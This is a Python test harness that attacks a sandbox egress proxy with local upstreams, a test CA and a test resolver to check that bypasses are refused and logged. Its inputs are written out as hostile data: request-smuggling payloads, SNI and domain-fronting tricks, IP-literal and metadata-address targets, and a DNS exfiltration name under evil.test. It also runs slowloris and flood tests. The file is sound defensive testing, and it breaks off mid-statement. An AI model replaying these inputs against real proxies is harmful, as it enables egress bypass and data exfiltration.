#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""End-to-end attacks on the egress proxy (`airlock proxy`), one per bypass
class in the research notes, against local upstreams: plain HTTP and HTTPS
servers on 127.0.0.2 (with a test CA made here), a test resolver that logs
every name it is asked, and a proxy started with real rules.  Each attack
checks the answer the client gets AND that the proxy wrote exactly one
record for it, with the expected verdict and reason.  At the end every
output, log and file of the run is searched for the injected secret.

Domain fronting is attacked against a "front" upstream that serves two
sites by Host behind one address and certificate: in opaque mode it gets
through (the documented limit), in inspect mode (TLS ended in the proxy
with a certificate from its per-proxy CA) it is refused 421.

The attacks from inside a real sandbox (--noproxy, raw TCP/UDP, IPv6, DNS
through the sandbox's stub, inspection with the generated trust store) are
in sandbox_test.py.

usage: egress_test.py BIN_DIR
"""
import http.client
import http.server
import json
import os
import secrets
import shutil
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import threading
import time

BIN = os.path.abspath(sys.argv[1])
AIRLOCK = os.path.join(BIN, "airlock")
HERE = os.path.dirname(os.path.abspath(__file__))
TMP = tempfile.mkdtemp(prefix="airlock-egress-")
UP = "127.0.0.2"
SECRET = "sk-test-" + secrets.token_hex(16)
FAILS = []
PASSES = 0
PROCS = []


def check(cond, what):
    global PASSES
    if cond:
        PASSES += 1
    else:
        FAILS.append(what)
        print("FAIL:", what, flush=True)


def free_port():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    p = s.getsockname()[1]
    s.close()
    return p


def run(cmd, **kw):
    return subprocess.run(cmd, capture_output=True, text=True, **kw)


# ---------------------------------------------------------------- upstreams
UPSTREAM_SEEN = []  # (path, headers) of every request an upstream got


def pattern(n):
    """n bytes that no two offsets of a short window share: a shifted or
    dropped block changes its hash"""
    return (bytes(range(251)) * (n // 251 + 1))[:n]


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *a):
        pass

    def read_body(self):
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length) if length else b""
        if self.headers.get("Transfer-Encoding", "").lower() == "chunked":
            while True:
                size = int(self.rfile.readline().strip(), 16)
                chunk = self.rfile.read(size + 2)[:size]
                if size == 0:
                    break
                body += chunk
        return body

    def answer(self):
        body = self.read_body()
        UPSTREAM_SEEN.append((self.command, self.path, dict(self.headers.items()), body))
        if self.path.startswith("/v1/redirect"):
            self.send_response(302)
            self.send_header("Location", "https://other.test:%d/steal" % self.server.server_port)
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        if self.path.startswith("/bytes/"):  # a bulk download of a known pattern
            out = pattern(int(self.path[len("/bytes/"):]))
        else:
            out = ("hello from %s %s" % (self.command, self.path)).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(out)))
        self.end_headers()
        self.wfile.write(out)

    do_GET = do_POST = do_PUT = answer


def serve(port, tls=None, handler=Handler):
    srv = http.server.ThreadingHTTPServer((UP, port), handler)
    if tls:
        srv.socket = tls.wrap_socket(srv.socket, server_side=True)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    return srv


FRONT_PORT = 28447
FRONT_SEEN = []  # (site, method, path, headers, body, TLS version) of every request the front got
FRONT_SNI = []   # the TLS name of every connection to the front


class FrontHandler(Handler):
    """A shared front end (a CDN): one address and one certificate for
    allowed.test and other.test, the site chosen by the Host header."""

    def answer(self):
        body = self.read_body()
        site = (self.headers.get("Host") or "").split(":")[0]
        FRONT_SEEN.append((site, self.command, self.path, dict(self.headers.items()), body,
                           self.connection.version()))
        out = ("site %s: %s %s" % (site, self.command, self.path)).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(out)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(out)

    do_GET = do_POST = do_HEAD = answer


def serve_front(port=FRONT_PORT):
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    tls.load_cert_chain(os.path.join(TMP, "srv.pem"), os.path.join(TMP, "srv.key"))
    tls.sni_callback = lambda sock, name, ctx: FRONT_SNI.append(name)
    return serve(port, tls, FrontHandler)


BULK_PORT = 28445
BULK = os.urandom(8 << 20)


def raw_server(port, one):
    """TCP on 127.0.0.2:port, each connection handed to one(conn) in a thread."""
    srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind((UP, port))
    srv.listen(16)

    def loop():
        while True:
            conn, _ = srv.accept()
            threading.Thread(target=one, args=(conn,), daemon=True).start()

    threading.Thread(target=loop, daemon=True).start()


def bulk_server():
    """Raw TCP on 127.0.0.2:BULK_PORT: reads until the client half-closes,
    then answers the SHA-256 of what it got and 8 MiB, and closes."""
    import hashlib

    def one(conn):
        h = hashlib.sha256()
        while True:
            b = conn.recv(1 << 16)
            if not b:
                break
            h.update(b)
        try:
            conn.sendall(h.digest() + BULK)
        except OSError:
            pass
        conn.close()

    raw_server(BULK_PORT, one)


CLOSER_PORT = 28448


def closer_server():
    """TLS on 127.0.0.2:CLOSER_PORT that answers one request and sends its
    close_notify right behind the answer, so that a proxy reads both at
    once (libevent's TLS filter then reports the close before the data)."""
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(os.path.join(TMP, "srv.pem"), os.path.join(TMP, "srv.key"))

    def one(conn):
        try:
            t = ctx.wrap_socket(conn, server_side=True)
            t.settimeout(5)
            head = b""
            while b"\r\n\r\n" not in head:
                b = t.recv(4096)
                if not b:
                    return
                head += b
            out = b"closed right after"
            t.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(out), out))
            t.unwrap()  # close_notify now, then wait for the proxy's
        except (OSError, ssl.SSLError):
            pass
        finally:
            conn.close()

    raw_server(CLOSER_PORT, one)


def make_certs():
    def sh(*args):
        subprocess.run(args, check=True, capture_output=True, cwd=TMP)

    sh("openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
       "-keyout", "ca.key", "-out", "ca.pem", "-days", "1", "-subj", "/CN=airlock egress test CA")
    sh("openssl", "req", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
       "-keyout", "srv.key", "-out", "srv.csr", "-subj", "/CN=allowed.test")
    with open(os.path.join(TMP, "ext.cnf"), "w") as f:
        f.write("subjectAltName=DNS:allowed.test,DNS:api.test,DNS:other.test,DNS:a.wild.test\n")
    sh("openssl", "x509", "-req", "-in", "srv.csr", "-CA", "ca.pem", "-CAkey", "ca.key", "-CAcreateserial",
       "-out", "srv.pem", "-days", "1", "-extfile", "ext.cnf")
    # a server whose certificate no CA we trust signed
    sh("openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
       "-keyout", "self.key", "-out", "self.pem", "-days", "1", "-subj", "/CN=api.test",
       "-addext", "subjectAltName=DNS:api.test")


def wait_for_file(path, what):
    for _ in range(100):
        if os.path.exists(path):
            return
        time.sleep(0.05)
    raise SystemExit("%s did not start" % what)


def start_resolver(names):
    """The test resolver answering names (name -> addresses); sets QUERY_LOG
    (every name it is asked) and returns its port."""
    global QUERY_LOG
    with open(os.path.join(TMP, "names.json"), "w") as f:
        json.dump(names, f)
    QUERY_LOG = os.path.join(TMP, "queries.log")
    port = free_port()
    ready = os.path.join(TMP, "resolver.ready")
    PROCS.append(subprocess.Popen([sys.executable, os.path.join(HERE, "test_resolver.py"), "127.0.0.1", str(port),
                                   os.path.join(TMP, "names.json"), QUERY_LOG, ready]))
    wait_for_file(ready, "test resolver")
    return port


# ------------------------------------------------------------------- proxy
class Proxy:
    def __init__(self, name, network, extra=()):
        self.port = free_port()
        self.dns_port = free_port()
        self.log = os.path.join(TMP, name + ".log")
        cfg = os.path.join(TMP, name + ".json")
        with open(cfg, "w") as f:
            json.dump({"network": network}, f)
        ready = os.path.join(TMP, name + ".ready")
        self.stderr = open(os.path.join(TMP, name + ".stderr"), "w")
        self.proc = subprocess.Popen(
            [AIRLOCK, "proxy", "--listen", "127.0.0.1:%d" % self.port, "--dns-listen", "127.0.0.1:%d" % self.dns_port,
             "--config", cfg, "--log", self.log, "--state-dir", STATE, "--sandbox", name, "--ready-file", ready,
             *extra], stdout=self.stderr, stderr=self.stderr)
        PROCS.append(self.proc)
        wait_for_file(ready, "proxy %s (%s)" % (name, self.stderr.name))
        self.seen = 0

    def records(self):
        try:
            with open(self.log) as f:
                return [json.loads(l) for l in f if l.strip()]
        except FileNotFoundError:
            return []

    def new_records(self, settle=0.15):
        """Records written since the last call; waits for at least one."""
        deadline = time.time() + 5
        while time.time() < deadline and len(self.records()) <= self.seen:
            time.sleep(0.02)
        time.sleep(settle)
        recs = self.records()
        out = recs[self.seen:]
        self.seen = len(recs)
        return out

    def connect(self):
        s = socket.create_connection(("127.0.0.1", self.port), timeout=10)
        return s


def read_response(s):
    data = b""
    try:
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
    except (socket.timeout, ConnectionResetError, ssl.SSLError):
        pass
    return data


def raw(px, payload):
    s = px.connect()
    s.sendall(payload)
    data = read_response(s)
    s.close()
    return data


def status_of(resp):
    try:
        return int(resp.split(b" ", 2)[1])
    except (IndexError, ValueError):
        return 0


def expect_one(px, what, verdict, reason_part, **fields):
    recs = px.new_records()
    check(len(recs) == 1, "%s: exactly one record (got %d: %s)" % (what, len(recs), recs))
    if not recs:
        return None
    r = recs[-1]
    check(r.get("verdict") == verdict, "%s: verdict %s (record %s)" % (what, verdict, r))
    check(reason_part in r.get("reason", ""), "%s: reason has '%s' (record %s)" % (what, reason_part, r))
    for k, v in fields.items():
        check(r.get(k) == v, "%s: %s == %r (record %s)" % (what, k, v, r))
    return r


def connect_tunnel(px, target):
    s = px.connect()
    s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)).encode())
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = s.recv(1)
        if not chunk:
            break
        head += chunk
    return s, head


def tls_through(px, target, sni, verify=True):
    s, head = connect_tunnel(px, target)
    if status_of(head) != 200:
        s.close()
        return head, None
    ctx = ssl.create_default_context(cafile=os.path.join(TMP, "ca.pem"))
    if not verify:
        ctx.check_hostname = False
    try:
        t = ctx.wrap_socket(s, server_hostname=sni)
        t.sendall(b"GET /x HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (sni or "x").encode())
        body = read_response(t)
        t.close()
        return head, body
    except (ssl.SSLError, OSError) as e:
        s.close()
        return head, e


# ---------------------------------------------------------- ClientHellos
def client_hello(sni, extra=b"", pad=0):
    """A TLS 1.2-framed ClientHello: SNI (or none), extra raw extensions, and
    a padding extension of pad bytes (to make a post-quantum-sized hello)."""
    exts = b""
    if sni is not None:
        name = sni.encode()
        entry = b"\x00" + struct.pack("!H", len(name)) + name
        lst = struct.pack("!H", len(entry)) + entry
        exts += struct.pack("!HH", 0, len(lst)) + lst
    exts += extra
    if pad:
        exts += struct.pack("!HH", 21, pad) + b"\x00" * pad
    body = b"\x03\x03" + os.urandom(32) + b"\x00" + b"\x00\x02\x13\x01" + b"\x01\x00"
    body += struct.pack("!H", len(exts)) + exts
    hs = b"\x01" + struct.pack("!I", len(body))[1:] + body
    return hs


def records_of(hs, size=16384):
    out = b""
    for i in range(0, len(hs), size):
        part = hs[i:i + size]
        out += b"\x16\x03\x01" + struct.pack("!H", len(part)) + part
    return out


def send_hello(px, target, data, pieces=1):
    s, head = connect_tunnel(px, target)
    if status_of(head) != 200:
        s.close()
        return head, b""
    step = max(1, len(data) // pieces)
    try:
        for i in range(0, len(data), step):
            s.sendall(data[i:i + step])
            time.sleep(0.005)
        s.settimeout(3)
        reply = read_response(s)
    except (ConnectionResetError, BrokenPipeError):
        reply = b"reset"  # refused while we were still sending
    s.close()
    return head, reply


ALERT_DENIED = b"\x15\x03\x03\x00\x02\x02\x31"


def tunnel_client(px, host, port, cafile, alpn=None):
    """An HTTPS client through the proxy's CONNECT to host:port (SNI host),
    verifying the server it meets against cafile alone; keep-alive."""
    ctx = ssl.create_default_context(cafile=cafile)
    if alpn:
        ctx.set_alpn_protocols(alpn)
    conn = http.client.HTTPSConnection("127.0.0.1", px.port, context=ctx, timeout=10)
    conn.set_tunnel(host, port)
    return conn


def fetch(conn, path, host, method="GET", headers=None, body=None):
    """One request on conn with this Host: (status, headers, body)."""
    h = {"Host": host}
    h.update(headers or {})
    conn.request(method, path, body=body, headers=h)
    r = conn.getresponse()
    return r.status, dict(r.getheaders()), r.read()


# ------------------------------------------------------------------ tests
def test_allowed_paths(px):
    head, body = tls_through(px, "allowed.test:28443", "allowed.test")
    check(status_of(head) == 200 and isinstance(body, bytes) and b"hello from GET /x" in body,
          "CONNECT to an allowed host works (got %r %r)" % (head, body))
    r = expect_one(px, "allowed CONNECT", "allow", "allowed by rule", sni="allowed.test", address=UP)
    check(r is not None and r.get("bytes_down", 0) > 0 and r.get("bytes_up", 0) > 0, "byte counts recorded")

    resp = raw(px, b"GET http://allowed.test:28080/plain HTTP/1.1\r\nHost: allowed.test:28080\r\n\r\n")
    check(status_of(resp) == 200 and b"hello from GET /plain" in resp, "plain HTTP to an allowed host works")
    expect_one(px, "allowed plain HTTP", "allow", "allowed by rule", kind="http", address=UP)

    # case and trailing dot are the same name
    head, body = tls_through(px, "ALLOWED.test.:28443", "allowed.test")
    check(status_of(head) == 200 and isinstance(body, bytes) and b"hello" in body, "case/trailing dot normalised")
    expect_one(px, "normalised name", "allow", "allowed by rule", host="allowed.test")

    # a POST body goes through exactly
    resp = raw(px, b"POST http://allowed.test:28080/post HTTP/1.1\r\nHost: allowed.test:28080\r\n"
                   b"Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n")
    check(status_of(resp) == 200 and UPSTREAM_SEEN and UPSTREAM_SEEN[-1][3] == b"hello", "chunked body forwarded")
    expect_one(px, "chunked POST", "allow", "allowed by rule")


def test_sni(px):
    # 1. domain fronting: CONNECT an allowed host, TLS for another name
    head, res = tls_through(px, "allowed.test:28443", "other.test")
    check(status_of(head) == 200 and not isinstance(res, bytes), "SNI mismatch: no TLS session (got %r)" % (res,))
    expect_one(px, "SNI differs from CONNECT host", "deny", "differs from the CONNECT host", sni="other.test")
    head, reply = send_hello(px, "allowed.test:28443", records_of(client_hello("other.test")))
    check(reply == ALERT_DENIED, "SNI mismatch answered with an access_denied alert (got %r)" % reply)
    expect_one(px, "SNI mismatch (raw hello)", "deny", "differs")
    # 2. no SNI, ECH
    head, reply = send_hello(px, "allowed.test:28443", records_of(client_hello(None)))
    check(reply == ALERT_DENIED, "no SNI: alert")
    expect_one(px, "no SNI", "deny", "ClientHello refused")
    ech = struct.pack("!HH", 0xfe0d, 4) + b"\x00\x01\x02\x03"
    head, reply = send_hello(px, "allowed.test:28443", records_of(client_hello("allowed.test", extra=ech)))
    check(reply == ALERT_DENIED, "ECH: alert")
    expect_one(px, "ECH", "deny", "ClientHello refused")
    # not TLS at all on an allowed tunnel (plain HTTP with a spoofed Host)
    head, reply = send_hello(px, "allowed.test:28443", b"GET / HTTP/1.1\r\nHost: other.test\r\n\r\n")
    check(reply == ALERT_DENIED, "plain text in a tunnel: refused")
    expect_one(px, "not TLS in a tunnel", "deny", "ClientHello refused")
    # 10. a big hello split across records and TCP segments is fine ...
    big = records_of(client_hello("allowed.test", pad=3000), size=1000)
    head, reply = send_hello(px, "allowed.test:28443", big, pieces=7)
    check(reply != ALERT_DENIED, "fragmented 3 KB hello accepted (forwarded)")
    expect_one(px, "fragmented big hello", "allow", "allowed by rule", sni="allowed.test")
    # ... an oversized one is not
    huge = records_of(client_hello("allowed.test", pad=20000))
    head, reply = send_hello(px, "allowed.test:28443", huge, pieces=3)
    check(reply in (ALERT_DENIED, b"reset"), "20 KB hello refused")
    expect_one(px, "oversized hello", "deny", "ClientHello refused")


def test_ip_literals(px):
    for target in ["127.0.0.1:28443", "2130706433:28443", "0x7f.1:28443", "0177.0.0.1:28443", "[::ffff:127.0.0.1]:28443",
                   "[64:ff9b::7f00:1]:28443", "[2002:7f00:1::]:28443", "169.254.169.254:80"]:
        s, head = connect_tunnel(px, target)
        s.close()
        check(status_of(head) == 403, "IP literal %s refused (got %r)" % (target, head))
        expect_one(px, "IP literal " + target, "deny", "")
    resp = raw(px, b"GET http://2130706433:28080/ HTTP/1.1\r\nHost: 2130706433:28080\r\n\r\n")
    check(status_of(resp) == 403, "absolute URI with a decimal IP refused")
    expect_one(px, "decimal IP in absolute URI", "deny", "no rule allows")
    # an IP rule that allows a private address still meets the address check
    s, head = connect_tunnel(px, "10.0.0.1:28443")
    s.close()
    check(status_of(head) == 403, "allowed-by-rule private IP refused by class")
    expect_one(px, "private IP allowed by rule", "deny", "forbidden address: private")


def test_resolving_inside(px):
    for name, why in [("rebind.test", "loopback"), ("meta.test", "metadata"), ("private.test", "private"),
                      ("v6.test", "loopback"), ("mapped.test", "IPv4")]:
        s, head = connect_tunnel(px, name + ":28443")
        s.close()
        check(status_of(head) == 403, "%s (resolves inside) refused, got %r" % (name, head))
        expect_one(px, "name resolving to " + why, "deny", "resolves only to forbidden addresses")
    # a name with both a forbidden and an allowed address: only the allowed one is used
    head, body = tls_through(px, "mixed.test:28443", "mixed.test", verify=False)
    check(status_of(head) == 200, "mixed.test reaches its allowed address")
    expect_one(px, "mixed answer", "allow", "allowed by rule", address=UP)


def test_suffix_confusion(px):
    for target in ["allowed.test.evil.test:28443", "evilallowed.test:28443", "allowed.tes:28443", "xn--llowed-test:28443",
                   "allowed.test:28444", "allowed%2etest:28443", "allowed.test..:28443", "wild.test:28443"]:
        s, head = connect_tunnel(px, target)
        s.close()
        check(status_of(head) in (400, 403), "suffix confusion %s refused (got %r)" % (target, head))
        expect_one(px, "suffix " + target, "deny", "")
    head, body = tls_through(px, "a.wild.test:28443", "a.wild.test")
    check(status_of(head) == 200 and isinstance(body, bytes), "*.wild.test allows a.wild.test")
    expect_one(px, "wildcard", "allow", "*.wild.test")


def test_smuggling(px):
    cases = [
        (b"POST http://allowed.test:28080/ HTTP/1.1\r\nHost: allowed.test:28080\r\nContent-Length: 4\r\n"
         b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n", "Content-Length and Transfer-Encoding"),
        (b"POST http://allowed.test:28080/ HTTP/1.1\r\nHost: allowed.test:28080\r\nContent-Length: 4\r\n"
         b"Content-Length: 40\r\n\r\nabcd", "2 Content-Length headers"),
        (b"GET http://allowed.test:28080/ HTTP/1.1\r\nHost: allowed.test:28080\r\nX-A: b\r\n c\r\n\r\n", "obs-fold"),
        (b"CONNECT allowed.test:28443\r\nHost: evil.test HTTP/1.1\r\nHost: x\r\n\r\n", ""),
        (b"GET http://allowed.test:28080/\x00 HTTP/1.1\r\nHost: allowed.test:28080\r\n\r\n", "control"),
        (b"POST http://allowed.test:28080/ HTTP/1.1\r\nHost: allowed.test:28080\r\nTransfer-Encoding: chunked\r\n"
         b"Transfer-Encoding: identity\r\n\r\n", "Transfer-Encoding"),
    ]
    for payload, why in cases:
        resp = raw(px, payload)
        check(status_of(resp) in (400, 501), "smuggling refused: %r (got %r)" % (payload[:60], resp[:40]))
        expect_one(px, "smuggling " + why, "deny", why, status=status_of(resp))
    # a request glued behind a body is not forwarded
    before = len(UPSTREAM_SEEN)
    resp = raw(px, b"POST http://allowed.test:28080/one HTTP/1.1\r\nHost: allowed.test:28080\r\nContent-Length: 2\r\n\r\n"
                   b"okGET http://allowed.test:28080/two HTTP/1.1\r\nHost: allowed.test:28080\r\n\r\n")
    check(status_of(resp) == 200 and len(UPSTREAM_SEEN) == before + 1 and UPSTREAM_SEEN[-1][1] == "/one",
          "pipelined second request not forwarded")
    expect_one(px, "pipelined", "allow", "")


def test_host_spoof(px):
    resp = raw(px, b"GET http://allowed.test:28080/ HTTP/1.1\r\nHost: other.test:28080\r\n\r\n")
    check(status_of(resp) == 400, "Host differing from the absolute URI refused")
    expect_one(px, "Host spoofing", "deny", "Host header")
    resp = raw(px, b"GET https://allowed.test:28443/ HTTP/1.1\r\nHost: allowed.test:28443\r\n\r\n")
    check(status_of(resp) == 400, "https:// absolute URI refused (must CONNECT)")
    expect_one(px, "https absolute URI", "deny", "CONNECT")
    resp = raw(px, b"GET http://user:pw@allowed.test:28080/ HTTP/1.1\r\nHost: allowed.test:28080\r\n\r\n")
    check(status_of(resp) == 400, "userinfo refused")
    expect_one(px, "userinfo", "deny", "credentials")


def test_dns_names_not_resolved(px):
    """Denied names never reach the resolver: the decision comes first."""
    token = "c2VjcmV0LWRhdGE" + secrets.token_hex(4)
    s, head = connect_tunnel(px, token + ".evil.test:443")
    s.close()
    check(status_of(head) == 403, "CONNECT to an exfiltration name refused")
    expect_one(px, "exfil CONNECT", "deny", "evil.test")
    q = dns_query(px.dns_port, token + ".evil.test")
    check(q is not None and q[3] & 0x0f == 3, "DNS stub: NXDOMAIN for an exfiltration name")
    expect_one(px, "exfil DNS", "deny", "", kind="dns")
    q = dns_query(px.dns_port, "allowed.test")
    check(q is not None and q[3] & 0x0f == 0 and q[-4:] == bytes([198, 18, 0, 1]), "DNS stub: allowed name answered")
    expect_one(px, "allowed DNS", "allow", "", kind="dns")
    with open(QUERY_LOG) as f:
        asked = f.read().lower()
    check(token.lower() not in asked, "the exfiltration name never reached the upstream resolver")


def dns_query(port, name):
    q = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    q += b"\x00" + struct.pack("!HH", 1, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(3)
    s.sendto(q, ("127.0.0.1", port))
    try:
        return s.recv(600)
    except socket.timeout:
        return None
    finally:
        s.close()


def route_request(px, path, headers=b"", body=b""):
    req = b"POST %s HTTP/1.1\r\nHost: 127.0.0.1:3128\r\n%sContent-Length: %d\r\n\r\n%s" % (
        path.encode(), headers, len(body), body)
    return raw(px, req)


def test_injection(px):
    before = len(UPSTREAM_SEEN)
    resp = route_request(px, "/llm/v1/messages", b"x-api-key: fake-from-sandbox\r\nAuthorization: Bearer mine\r\n",
                         b'{"q":1}')
    check(status_of(resp) == 200 and b"hello from POST /v1/messages" in resp, "route forwards (got %r)" % resp[:80])
    check(len(UPSTREAM_SEEN) == before + 1, "route: one upstream request")
    if len(UPSTREAM_SEEN) > before:
        m, p, h, b = UPSTREAM_SEEN[-1]
        lower = {k.lower(): v for k, v in h.items()}
        check(lower.get("x-api-key") == SECRET, "route: the upstream got the real key")
        check(list(k.lower() for k in h).count("x-api-key") == 1, "route: exactly one key header upstream")
        check(lower.get("host") == "api.test:28443", "route: Host is the upstream's (got %r)" % lower.get("host"))
        check(b == b'{"q":1}', "route: body intact")
        check(lower.get("authorization") == "Bearer mine", "route: other headers pass")
    check(SECRET.encode() not in resp, "route: the key is not in the response")
    expect_one(px, "injection route", "allow", "route /llm/", kind="route", route="/llm/")
    # 8. redirects are passed back, never followed with the key
    before = len(UPSTREAM_SEEN)
    resp = route_request(px, "/llm/v1/redirect")
    check(status_of(resp) == 302 and b"Location: https://other.test" in resp, "redirect passed back")
    check(len(UPSTREAM_SEEN) == before + 1, "redirect not followed")
    expect_one(px, "redirect", "allow", "route /llm/")
    # path tricks cannot leave the route's base
    resp = route_request(px, "/llm/../admin")
    check(status_of(resp) == 400, "'..' in a route path refused")
    expect_one(px, "route traversal", "deny", "path segment")
    # an upstream whose close_notify comes with its answer: the answer
    # still counts (it was taken for "closed before answering")
    statuses = [status_of(route_request(px, "/closer/x")) for _ in range(10)]
    check(statuses == [200] * 10, "route: answers followed at once by close_notify arrive (%s)" % statuses)
    recs = px.new_records()
    check(len(recs) == 10 and all(r["verdict"] == "allow" and "route /closer/" in r["reason"] for r in recs),
          "route to a closing upstream: one allow record each: %s" % recs)
    resp = route_request(px, "/nothere/x")
    check(status_of(resp) == 404, "unknown path refused")
    expect_one(px, "unknown route", "deny", "no injection route")
    # a route whose upstream presents an untrusted certificate never gets the key
    before = len(UPSTREAM_SEEN)
    resp = route_request(px, "/bad/v1/x")
    check(status_of(resp) == 502 and b"certificate" in resp, "untrusted upstream certificate: 502 (got %r)" % resp[:120])
    check(len(UPSTREAM_SEEN) == before, "untrusted upstream got no request")
    expect_one(px, "untrusted upstream", "deny", "certificate")


def test_fronting_opaque(px):
    """Opaque mode: the proxy sees CONNECT and SNI only, both name the
    allowed host; the Host inside TLS names another site on the same front,
    which serves it.  This is the documented limit of opaque mode
    (docs/egress.md): allowing a shared front allows what is behind it."""
    conn = tunnel_client(px, "allowed.test", FRONT_PORT, os.path.join(TMP, "ca.pem"))
    st, _, body = fetch(conn, "/front", "other.test:%d" % FRONT_PORT)
    conn.close()
    check(st == 200 and body == b"site other.test: GET /front",
          "opaque: the fronted request reaches other.test, the documented limit (got %d %r)" % (st, body))
    check(FRONT_SEEN and FRONT_SEEN[-1][0] == "other.test", "opaque: the front served other.test")
    expect_one(px, "opaque fronting", "allow", "allowed by rule 'allowed.test:%d'" % FRONT_PORT, sni="allowed.test")


def test_bulk_tunnel(px):
    """An opaque tunnel (opaquePorts) carries 1 MiB up, a half-close, and
    8 MiB down intact, and the record counts exactly those bytes."""
    import hashlib
    up = os.urandom(1 << 20)
    s, head = connect_tunnel(px, "allowed.test:%d" % BULK_PORT)
    check(status_of(head) == 200, "opaque tunnel opened: %r" % head)
    s.sendall(up)
    s.shutdown(socket.SHUT_WR)
    got = read_response(s)
    s.close()
    check(got[:32] == hashlib.sha256(up).digest(), "upload arrived intact through the half-closed tunnel")
    check(got[32:] == BULK, "8 MiB download intact (%d bytes)" % (len(got) - 32))
    r = expect_one(px, "bulk tunnel", "allow", "opaque tunnel")
    check(r is not None and r.get("bytes_up") == len(up) and r.get("bytes_down") == 32 + len(BULK),
          "bulk bytes counted: %s" % r)


def test_connect_fails(px):
    """An allowed, checked address that refuses the connection: the tunnel
    (already answered 200 while connecting) ends with an alert, and the
    record says why."""
    head, reply = send_hello(px, "allowed.test:28446", records_of(client_hello("allowed.test")))
    check(status_of(head) == 200 and reply in (ALERT_DENIED, b"reset", b""), "refused upstream ends the tunnel")
    expect_one(px, "upstream refuses", "deny", "cannot connect to allowed.test port 28446")


def test_byte_cap():
    px = Proxy("capped", dict(BASE_NET, limits={"maxBytes": "2m"}))
    s, head = connect_tunnel(px, "allowed.test:%d" % BULK_PORT)
    s.sendall(b"x")
    s.shutdown(socket.SHUT_WR)
    got = read_response(s)
    s.close()
    check(status_of(head) == 200 and len(got) < 3 << 20, "maxBytes cuts a tunnel (%d bytes came)" % len(got))
    expect_one(px, "byte cap", "allow", "maxBytes")
    px.proc.terminate()


def test_rate_limits():
    px = Proxy("ratelimit", dict(BASE_NET, rateLimit={"requestsPerMinute": 0, "perHostRequestsPerMinute": 60,
                                                      "perHostBurst": 3}))
    statuses = []
    for _ in range(5):
        resp = raw(px, b"GET http://allowed.test:28080/r HTTP/1.1\r\nHost: allowed.test:28080\r\n\r\n")
        statuses.append(status_of(resp))
        if status_of(resp) == 429:
            check(b"Retry-After: " in resp, "429 carries Retry-After")
    check(statuses == [200, 200, 200, 429, 429], "burst of 5 with burst 3: %r" % statuses)
    recs = px.new_records()
    check(len(recs) == 5, "rate limit: one record per request (%d)" % len(recs))
    check(sum(1 for r in recs if r.get("status") == 429 and "rate limit" in r.get("reason", "")) == 2,
          "rate limit: two 429 records")
    # another host has its own bucket
    head, body = tls_through(px, "a.wild.test:28443", "a.wild.test")
    check(status_of(head) == 200, "other host not limited")
    px.new_records()
    px.proc.terminate()


def test_slow_and_floods():
    px = Proxy("slow", dict(BASE_NET, limits={"headerTimeout": 1, "maxConnections": 4}))
    # slowloris: a head that never ends
    s = px.connect()
    s.sendall(b"GET http://allowed.test:28080/ HTTP/1.1\r\nHost: allowed")
    t0 = time.time()
    resp = read_response(s)
    s.close()
    check(status_of(resp) == 408 and time.time() - t0 < 3, "slowloris cut at headerTimeout (got %r)" % resp[:30])
    expect_one(px, "slowloris", "deny", "no complete request head")
    # half-open CONNECTs: allowed tunnel, no ClientHello ever
    s, head = connect_tunnel(px, "allowed.test:28443")
    check(status_of(head) == 200, "tunnel opened")
    s.settimeout(4)
    rest = read_response(s)
    s.close()
    check(rest == ALERT_DENIED, "silent tunnel closed at headerTimeout")
    expect_one(px, "half-open tunnel", "deny", "ClientHello")
    # a flood of idle connections: at most maxConnections held, the rest refused at once
    socks = [px.connect() for _ in range(4)]
    time.sleep(0.2)
    extra = [px.connect() for _ in range(3)]
    refused = 0
    for s in extra:
        s.settimeout(2)
        if status_of(read_response(s)) == 503:
            refused += 1
        s.close()
    check(refused == 3, "connections over maxConnections refused with 503 (%d/3)" % refused)
    time.sleep(1.5)
    for s in socks:
        s.settimeout(2)
        check(status_of(read_response(s)) == 408, "held connection timed out")
        s.close()
    recs = px.new_records(settle=0.3)
    check(len(recs) == 7, "flood: one record per connection (%d)" % len(recs))
    px.proc.terminate()


def test_inspect():
    """Inspect mode: the sandbox's TLS ends in the proxy, every request's
    Host must be the CONNECT host and TLS name, and the proxy's own TLS to
    the upstream is verified."""
    cafile = os.path.join(TMP, "egress-ca.pem")
    testca = os.path.join(TMP, "ca.pem")
    px = Proxy("inspect", INSPECT_NET, extra=("--ca-cert", cafile))
    with open(cafile) as f:
        pem = f.read()
    check(pem.startswith("-----BEGIN CERTIFICATE-----") and pem.count("BEGIN") == 1 and "PRIVATE" not in pem,
          "--ca-cert: one certificate, no key")
    text = run(["openssl", "x509", "-in", cafile, "-noout", "-text"]).stdout
    check("CA:TRUE, pathlen:0" in text and "Name Constraints: critical" in text and "DNS:allowed.test" in text
          and "DNS:api.test" in text and "prime256v1" in text and "DNS:other.test" not in text,
